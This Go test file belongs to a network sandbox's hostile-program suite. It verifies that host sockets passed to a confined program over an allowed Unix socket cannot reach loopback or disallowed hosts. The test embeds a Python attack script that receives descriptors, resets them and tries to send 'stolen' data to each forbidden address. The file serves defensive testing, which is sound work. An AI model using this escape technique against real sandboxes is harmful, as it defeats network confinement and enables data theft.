package hostile

import (
	"net"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/srt-sandbox/srt/test/programs/stage"
)

// TestNET3_SocketsOfTheHost: a socket of the host's network that a server hands to a program, over an allowed Unix socket,
// cannot be turned to where the settings do not lead: neither to the host's loopback nor to a host that is not allowed.
func TestNET3_SocketsOfTheHost(t *testing.T) {
	w := newWorld(t)
	for _, at := range []string{"127.0.0.1:5432", "0.0.0.0:1081"} {
		l, err := net.Listen("tcp4", at)
		must(t, err)
		t.Cleanup(func() { l.Close() })
		go serveBanner(l)
	}
	const attack = `
places = [("127.0.0.1", 5432), ("0.0.0.0", 5432), ("::ffff:127.0.0.1", 5432), (BAD, 7), ("10.203.255.1", 5432), ("127.0.0.1", 1081), (GOOD, 7)]
for host, port in places:
    for kind in ("tcp", "connected"):
        for wait in (True, False):
            c = socket.socket(UNIX, TCP); c.settimeout(30); c.connect(sys.argv[1]); c.send(kind.encode())
            _, fds, _, _ = socket.recv_fds(c, 1, 1)
            s = socket.socket(fileno=fds[0]); s.setblocking(wait)
            libc.connect(s.fileno(), struct.pack("=H14x", 0), 16)
            try:
                if wait: s.connect((host, port))
                elif s.connect_ex((host, port)) == errno.EINPROGRESS: settled(s)
                s.send(b"stolen")
            except OSError: pass
            s.close()
done()`
	stage.Each(t, func(s *stage.Stage) {
		h := w.hostSocket(s, "allowed.sock")
		stop := make(chan struct{})
		ended := make(chan struct{})
		go func() { defer close(ended); h.handOut(stop) }()
		w.silent(s.T, func() {
			r := w.python(s, rules{Allow: []string{good + ":7"}, Network: map[string]any{"allowUnixSockets": []string{h.path}}}, attack, h.path)
			wantLines(s.T, r, "")
			if r.Stderr != "" {
				s.T.Logf("srt said:\n%.2000s", r.Stderr)
			}
		}, good+":7", good+":8")
		close(stop)
		<-ended
	})
}

// handOut gives everybody who connects a socket of the host's network, connected or not as asked, until stop.
func (h *hostSocket) handOut(stop <-chan struct{}) {
	for {
		select {
		case <-stop:
			return
		default:
		}
		if n, err := unix.Poll([]unix.PollFd{{Fd: int32(h.fd), Events: unix.POLLIN}}, 20); err != nil || n == 0 {
			continue
		}
		c, _, err := unix.Accept4(h.fd, unix.SOCK_CLOEXEC)
		if err != nil {
			continue
		}
		what := make([]byte, 16)
		n, err := unix.Read(c, what)
		fd, err2 := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
		if err == nil && err2 == nil {
			if string(what[:n]) == "connected" {
				_ = unix.Connect(fd, &unix.SockaddrInet4{Addr: [4]byte{10, 203, 1, 1}, Port: 8})
			}
			_ = unix.Sendmsg(c, []byte("x"), unix.UnixRights(fd), nil, 0)
		}
		_, _ = unix.Close(fd), unix.Close(c)
	}
}
